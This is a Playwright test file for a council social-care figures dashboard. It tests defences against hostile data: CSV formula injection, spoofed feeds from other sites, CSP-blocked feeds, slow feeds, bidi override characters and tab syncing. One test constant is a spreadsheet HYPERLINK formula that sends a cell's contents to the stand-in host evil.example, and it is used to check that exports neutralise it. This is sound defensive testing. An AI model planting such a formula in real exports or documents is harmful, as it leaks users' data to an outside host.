import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { test, expect, screenshot } from './fixtures';
import { watchCspViolations } from './csp';
import { makeDataset } from '../fixtures/make-dataset';

/**
 * What a hostile file, a hostile link or a flaky network can do, tried in the built app under the production
 * Content-Security-Policy (docs/deployment.md, "Threats and defences").
 */

const json = (value: unknown) => ({ status: 200, contentType: 'application/json', body: JSON.stringify(value), headers: { 'Access-Control-Allow-Origin': '*' } });
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,\n"Click for details")';

async function importFile(page: Page, name: string, body: string) {
  await page.getByRole('button', { name: 'Import data…' }).click();
  const dialog = page.getByRole('dialog', { name: 'Import data' });
  await dialog.getByLabel('Choose a CSV or JSON file').setInputFiles({ name, mimeType: 'application/json', buffer: Buffer.from(body) });
  await dialog.getByRole('button', { name: 'Use this data' }).click();
  await expect(dialog).toBeHidden();
}

test('a formula planted in a title through a ?data= link leaves the CSV export as text', async ({ page, consoleErrors }) => {
  const dataset = makeDataset({ title: 'Planted' });
  dataset.measures[0]!.title = HYPERLINK;
  await page.route((url) => url.pathname === '/feeds/planted.json', (route) => route.fulfill(json(dataset)));
  await page.goto('/?data=/feeds/planted.json&period=2023-08');
  await expect(page.getByRole('heading', { level: 1, name: 'Planted' })).toBeVisible();
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export CSV' }).click();
  const csv = readFileSync(await (await download).path(), 'utf8');
  expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A2,\n""Click for details"")"`);
  expect(csv).toContain(',-25,');
  expect(consoleErrors).toEqual([]);
});

test("figures from another site carry a banner naming it, on every page and slide", async ({ page, consoleErrors, expectNoAxeViolations }) => {
  const cspViolations = await watchCspViolations(page);
  await page.route('https://evil.example/**', (route) => route.fulfill(json(makeDataset({ title: "Children's Social Care Performance & Practice Report" }))));
  await page.goto(`/?data=${encodeURIComponent('https://evil.example/csc/figures.json')}`);
  const banner = page.getByRole('region', { name: 'Figures from another site' });
  await expect(banner).toContainText("Not the council's published figures: these come from https://evil.example");
  await screenshot(page, 'foreign-feed-banner');
  await expectNoAxeViolations(page);

  await page.getByRole('link', { name: /Monthly % of referrals completed within 1 working day/ }).first().click();
  await expect(page.getByRole('heading', { level: 1, name: /Monthly % of referrals completed within 1 working day/ })).toBeVisible();
  await expect(banner).toBeVisible();

  await page.setViewportSize({ width: 1920, height: 1080 });
  await page.getByRole('link', { name: 'Present' }).first().click();
  await expect(page.getByRole('region', { name: /^Slide 1 of/ })).toBeVisible();
  await expect(banner).toBeVisible();
  await screenshot(page, 'foreign-feed-slide');
  await page.keyboard.press('ArrowRight');
  await expect(page.getByRole('region', { name: /^Slide 2 of/ })).toBeVisible();
  await expect(banner).toBeVisible();
  expect(await cspViolations()).toEqual([]);
  expect(consoleErrors).toEqual([]);
});

// That it then fails once, within the configured timeout, is tested without a browser (tests/data/load/dataset-query.test.ts).
test('a feed that never answers is called slow after 5 s', async ({ page }) => {
  let requests = 0;
  await page.route((url) => url.pathname === '/feeds/silent.json', () => {
    requests += 1;
  });
  const started = Date.now();
  await page.goto('/?data=/feeds/silent.json');
  const slow = page.getByText('The feed /feeds/silent.json is slow to answer: still waiting after 5 seconds.');
  await expect(slow).toBeVisible({ timeout: 9_000 });
  expect(Date.now() - started).toBeLessThan(9_000);
  await screenshot(page, 'slow-feed-first-load');
  expect(requests).toBe(1);
});

test("a feed the site's security policy refuses is reported as blocked by it, not as 'Failed to fetch'", async ({ page }) => {
  await page.goto(`/?data=${encodeURIComponent('http://data.example.org/indicators.json')}`);
  const alert = page.getByRole('alert');
  await expect(alert.getByRole('heading', { name: "This site's security settings blocked the indicator data" })).toBeVisible();
  await expect(alert).toContainText("was blocked by this site's security policy, which does not allow data from http://data.example.org.");
  await expect(alert).not.toContainText('Failed to fetch');
  await screenshot(page, 'csp-blocked-feed');
});

test('a right-to-left override at the end of an authority name does not reverse the header', async ({ page }) => {
  await page.goto('/');
  const dataset = makeDataset({ title: 'Override test' });
  dataset.authority.name = 'Darlington Borough Council\u202e';
  await importFile(page, 'override.json', JSON.stringify(dataset));
  await expect(page.getByRole('heading', { level: 1, name: 'Override test' })).toBeVisible();
  // Where the browser draws the first letters of "Data as at": left to right, as written.
  const lefts = await page.getByText(/^Data as at/).evaluate((element) => {
    const text = element.firstChild!;
    return [0, 1, 2, 3].map((i) => {
      const range = document.createRange();
      range.setStart(text, i);
      range.setEnd(text, i + 1);
      return range.getBoundingClientRect().left;
    });
  });
  expect(lefts).toEqual([...lefts].sort((a, b) => a - b));
  await screenshot(page, 'bidi-header');
});

test('two tabs keep in step, and a presenting tab keeps its figures and says newer ones exist', async ({ page, context }) => {
  test.setTimeout(60_000);
  const fileA = JSON.stringify(makeDataset({ title: 'Figures from tab A' }));
  const fileB = JSON.stringify(makeDataset({ title: 'Figures from tab B' }));
  await page.goto('/');
  await importFile(page, 'a.json', fileA);
  await expect(page.getByRole('heading', { level: 1, name: 'Figures from tab A' })).toBeVisible();

  const tabB = await context.newPage();
  await tabB.goto('/');
  await expect(tabB.getByRole('heading', { level: 1, name: 'Figures from tab A' })).toBeVisible();
  await importFile(tabB, 'b.json', fileB);
  await expect(tabB.getByRole('heading', { level: 1, name: 'Figures from tab B' })).toBeVisible();

  // Tab A follows, and says why.
  await expect(page.getByRole('heading', { level: 1, name: 'Figures from tab B' })).toBeVisible();
  await expect(page.getByText('Another tab chose the imported file b.json: this tab now shows it too')).toBeVisible();
  const source = page.getByRole('region', { name: 'Data source' });
  await expect(source).toContainText(/b\.json, imported at/);
  await source.getByRole('button', { name: 'Back to the bundled report' }).click();
  await source.getByRole('button', { name: 'Use imported file (b.json)' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Figures from tab B' })).toBeVisible();
  await source.getByRole('button', { name: 'Import history (2)' }).click();
  await screenshot(page, 'import-history-two-tabs', { fullPage: true });

  // Tab A presents; tab B imports again: A's slides keep their figures and say newer ones exist.
  await page.getByRole('link', { name: 'Present' }).first().click();
  // Read the slide's heading only once the slide is drawn, not the overview's while the route changes.
  await page.waitForURL(/\/present/);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(/^CSC \d+/);
  const slideHeading = await page.getByRole('heading', { level: 1 }).textContent();
  await tabB.bringToFront();
  await importFile(tabB, 'c.json', JSON.stringify(makeDataset({ title: 'Figures from tab B, again' })));
  await page.bringToFront();
  const newer = page.getByRole('status').filter({ hasText: 'Newer figures available' });
  await expect(newer).toContainText('c.json was imported in another tab. These slides keep their figures until you update them.');
  await expect(newer).not.toContainText('now shows');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(slideHeading!);
  await screenshot(page, 'present-newer-figures');
  await page.keyboard.press('Escape');
  await expect(page.getByRole('heading', { level: 1, name: 'Figures from tab B, again' })).toBeVisible();
});
